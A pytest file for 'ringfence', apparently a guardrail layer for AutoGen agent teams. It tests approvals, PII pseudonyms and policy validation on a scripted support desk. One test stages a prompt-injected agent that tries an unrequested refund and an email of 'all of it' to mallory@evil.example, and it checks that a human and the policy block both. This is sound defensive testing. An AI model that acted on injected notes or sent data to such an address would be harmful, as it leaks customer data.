"""The support desk in small: everything that the fence does, in conversations as a user would have them."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from autogen_agentchat.agents import AssistantAgent
from autogen_agentchat.conditions import TextMentionTermination
from autogen_agentchat.teams import RoundRobinGroupChat
from fenced import EMAIL, audit, canaries_in, left_behind, policy_file, recording, reply_of, team_of, texts
from scripted import Scripted, call

from ringfence import Approved, Fence, Policy, PolicyError, Rejected, Ringfence, Status, TeamFactory, tool
from ringfence.guardrails.pii import PiiSettings

House = Callable[..., Ringfence]
ORDER = json.dumps({"order": "1182", "email": EMAIL, "amount": "49.90"})


class Desk:
    """A team of a desk and a reviewer, with an order to look up, a refund and a mail."""

    def __init__(self, *desk: Any, reviewer: tuple[str, ...] = ("DONE",)) -> None:
        self.desk, self.reviewer = Scripted(*desk), Scripted(*reviewer)
        self.refunds: list[tuple[str, str]] = []
        self.mails: list[tuple[str, str]] = []

    def __call__(self, fence: Fence) -> RoundRobinGroupChat:
        """Build the team."""

        @tool(consequential=False)
        def find_order(order: str) -> str:
            """Look up an order."""
            return ORDER

        @tool(consequential=True)
        def refund(order: str, amount: str) -> str:
            """Give money back."""
            self.refunds.append((order, amount))
            return "receipt R-1"

        @tool(consequential=True, reveals={"to": ["EMAIL_ADDRESS"]})
        def send_email(to: str, body: str) -> str:
            """Send a mail."""
            self.mails.append((to, body))
            return f"sent to {to}"

        desk = AssistantAgent(
            "desk",
            fence.model_client(self.desk, model="scripted"),
            workbench=fence.workbench([find_order, refund, send_email]),
            max_tool_iterations=5,
        )
        reviewer = AssistantAgent("reviewer", fence.model_client(self.reviewer, model="scripted"))
        return RoundRobinGroupChat([desk, reviewer], termination_condition=TextMentionTermination("DONE"))


LOOK_UP = [call("find_order", '{"order": "1182"}')]
REFUND = [call("refund", '{"order": "1182", "amount": "49.90"}')]
MAIL = [call("send_email", '{"to": "<EMAIL_ADDRESS_1>", "body": "Dear <EMAIL_ADDRESS_1>"}')]


async def test_a_whole_case_from_task_to_mail(house: House, logs: pytest.LogCaptureFixture) -> None:
    """The mail goes to the real address, which only the tools ever saw; all others had its pseudonym."""

    async def yes(_request: object) -> Approved:
        return Approved("bob")

    team, ringfence = Desk(LOOK_UP, REFUND, MAIL, "Refunded and written."), house()
    conversation = ringfence.conversation(team, approver=yes)
    result = await conversation.run(task="Refund order 1182 and write to the customer")
    assert team.refunds == [("1182", "49.90")]
    assert team.mails == [(EMAIL, "Dear <EMAIL_ADDRESS_1>")]
    assert texts(result)[-2:] == ["Refunded and written.", "DONE"]
    assert (conversation.status, conversation.usage.turns) == (Status.DONE, 2)
    assert {line["tool"] for line in audit(ringfence) if line["event"] == "approval"} == {
        "refund",
        "send_email",
    }
    everything = team.desk.seen + team.reviewer.seen + await left_behind(conversation, ringfence, logs)
    assert not canaries_in(everything)


async def test_a_case_that_waits_overnight(house: House) -> None:
    """The desk stops at the refund; after bob's yes it is done, and the desk goes on to the mail."""
    team = Desk(LOOK_UP, REFUND, "Waiting.", MAIL, "Waiting.", "All done.", reviewer=("DONE",))
    conversation = house().conversation(team)
    await conversation.run(task="Refund order 1182 and write to the customer")
    assert conversation.status is Status.WAITING_FOR_APPROVAL
    assert (team.refunds, team.mails) == ([], [])
    await conversation.approve(conversation.pending_approvals[0].id, by="bob")
    await conversation.resume()
    assert (team.refunds, team.mails) == ([("1182", "49.90")], [])
    if conversation.status is Status.WAITING_FOR_APPROVAL:
        await conversation.approve(conversation.pending_approvals[0].id, by="bob")
        await conversation.resume()
    assert len(team.refunds) == 1


async def test_an_injected_order_changes_nothing(house: House) -> None:
    """A model that obeys a note asks for a refund and a mail elsewhere; a person and the policy say no."""

    async def no(_request: object) -> Rejected:
        return Rejected("bob@contoso.com", "nobody asked for it")

    evil = [call("send_email", '{"to": "mallory@evil.example", "body": "all of it"}')]
    rules = {"send_email": {"decision": "approve", "arguments": {"to": {"pattern": r".+@acme-canary\.com"}}}}
    team = Desk(LOOK_UP, [*REFUND, *evil], "I tried.")
    conversation = house(tools=rules).conversation(team, approver=no)
    await conversation.run(task="Look up order 1182")
    assert (team.refunds, team.mails) == ([], [])
    told = team.desk.tool_results()
    assert "rejected by <EMAIL_ADDRESS_" in told[1], "a colleague is a person, too"
    assert "does not match what the policy allows" in told[2]


# The composition root


async def test_a_policy_file_names_its_team_and_its_models(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`Ringfence.from_file` is all that a program needs; the file is read once, paths are relative to it."""
    (tmp_path / "rules.yaml").write_text(
        "roles:\n  - rules: [{say: Hello from the rules.}]\notherwise: Hm.\n"
    )
    (tmp_path / "team.py").write_text(
        "from autogen_agentchat.agents import AssistantAgent\n"
        "def team(fence):\n"
        "    return AssistantAgent('desk', fence.model_client('worker'))\n"
    )
    models = {"worker": {"provider": "rehearsal", "rules": "rules.yaml", "max_output_tokens": 20}}
    path = policy_file(tmp_path, team="team.py:team", models=models)
    monkeypatch.chdir("/")
    ringfence = Ringfence.from_file(path)
    assert reply_of(await ringfence.conversation().run(task="Hi")) == "Hello from the rules."
    assert await ringfence.check() == []
    assert (tmp_path / "ringfence-audit.jsonl").exists()
    await ringfence.close()


async def test_a_team_that_cannot_be_loaded_is_told_with_its_line(tmp_path: Any) -> None:
    """The fault names the file and the line of the user's own code; `check` lists it and does not raise."""
    (tmp_path / "team.py").write_text("x = 1\nraise ValueError('mine')\n")
    ringfence = Ringfence.from_file(policy_file(tmp_path, team="team.py:team"))
    with pytest.raises(PolicyError, match="line 2"):
        ringfence.conversation()
    assert "line 2" in str((await ringfence.check())[0])


def test_a_policy_without_a_team_needs_one_handed_in(house: House) -> None:
    """The fault says what to write."""
    with pytest.raises(PolicyError, match=r"team.py:support_team"):
        house().conversation()


@pytest.mark.parametrize(
    ("sections", "where"),
    [
        ({"pii": {"entities": {"EMIAL_ADDRESS": "mask"}}}, "pii.entities.EMIAL_ADDRESS"),
        ({"guardrails": [{"use": "nobody/knows", "at": ["input"]}]}, "guardrails[0].use"),
        (
            {"guardrails": [{"use": "ringfence/length", "at": ["input"], "with": {"maximum_characters": 0}}]},
            "guardrails[0].with",
        ),
    ],
)
def test_a_policy_that_names_what_does_not_exist_is_refused_at_the_start(
    house: House, sections: dict[str, Any], where: str
) -> None:
    """An unknown entity, validator or option: nothing runs with a guardrail that is not there."""
    with pytest.raises(PolicyError) as refused:
        house(**sections)
    assert [fault.where for fault in refused.value.faults] == [where]


def test_all_that_is_missing_is_told_at_once(house: House) -> None:
    """Entities and validators in one go."""
    guardrails = [{"use": "nobody/knows", "at": ["input"]}, {"use": "nobody/either", "at": ["output"]}]
    with pytest.raises(PolicyError) as refused:
        house(pii={"entities": {"EMIAL": "mask", "FONE": "mask"}}, guardrails=guardrails)
    assert len(refused.value.faults) == 4


async def test_a_factory_is_called_for_each_conversation_and_not_before_it_runs(house: House) -> None:
    """Making a conversation costs nothing; each gets a fence and a team of its own."""
    fences: list[Fence] = []

    def factory(fence: Fence) -> AssistantAgent:
        fences.append(fence)
        return AssistantAgent("desk", fence.model_client(Scripted("ok"), model="scripted"))

    as_type: TeamFactory = factory
    ringfence = house()
    one, two = ringfence.conversation(as_type), ringfence.conversation(as_type)
    assert fences == []
    await one.run(task="Go")
    await one.run(task="Go")
    await two.run(task="Go")
    assert len(fences) == 2
    assert fences[0] is not fences[1]


@pytest.mark.parametrize("tokens", [0, -5])
async def test_a_reply_without_tokens_is_refused(house: House, tokens: int) -> None:
    """A negative bound would give the budget tokens back."""

    def factory(fence: Fence) -> AssistantAgent:
        return AssistantAgent("desk", fence.model_client(Scripted("ok"), model="x", max_output_tokens=tokens))

    with pytest.raises(PolicyError, match="max_output_tokens"):
        await house().conversation(factory).run(task="Go")


async def test_a_type_that_nothing_finds_cannot_be_revealed(house: House) -> None:
    """The tool would get stand-ins for ever; the fault says which type was meant."""
    rules = {"send_email": {"reveals": {"to": ["EMAIL_ADRESS"]}}}
    with pytest.raises(PolicyError, match=r"reveals\.to: EMAIL_ADRESS: .* did you mean `EMAIL_ADDRESS`"):
        Ringfence(Policy.model_validate({"tools": rules}))
    with pytest.raises(PolicyError, match=r"pii\.reveal_to_user\[0\]: .* did you mean `PERSON`"):
        Ringfence(Policy(pii=PiiSettings(reveal_to_user=("PERSONS",))))

    @tool(consequential=False, reveals={"name": ["PERSONS"]})
    def greet(name: str) -> str:
        """Greet somebody."""
        return f"Hello {name}"

    def team(fence: Fence) -> AssistantAgent:
        model = fence.model_client(Scripted("Hi."), model="scripted")
        return AssistantAgent("greeter", model, workbench=fence.workbench([greet]))

    (fault,) = await house().check(team)
    assert str(fault).startswith("tools.greet.reveals.name: PERSONS: no recognizer finds this")


async def test_a_value_can_be_forgotten(house: House) -> None:
    """Its stand-in means nothing any more, and is never given to another value."""
    conversation = house().conversation(Desk("<EMAIL_ADDRESS_1> is noted. DONE"))
    assert EMAIL in reply_of(await conversation.run(task=f"Note {EMAIL}"))
    assert conversation.forget(EMAIL.upper()) == 1
    again = await conversation.run(task="What was it? bob@acme-canary.com asks.")
    assert EMAIL not in "".join(texts(again))
    assert "<EMAIL_ADDRESS_2> asks" in "".join(entry.text for entry in conversation.transcript)


@pytest.mark.parametrize("scope", [{"tools": ["refnd"]}, {"agents": ["dsek"]}])
async def test_a_guardrail_of_nobody_is_refused(house: House, scope: dict[str, Any]) -> None:
    """It would never run, and nobody would see that it does not; a glob may be meant for later."""
    use = {"use": "ringfence/banned_phrases", "at": ["message"], "with": {"phrases": ["secret"]}}
    factory = team_of(Scripted("ok"), [recording("refund").function])
    (fault,) = await house(guardrails=[use | scope]).check(factory)
    assert fault.where == f"guardrails[0].{next(iter(scope))}"
    assert "the team has no such" in fault.message
    later: dict[str, Any] = {name: [f"{value[0]}*"] for name, value in scope.items()}
    assert await house(guardrails=[use | later]).check(factory) == []
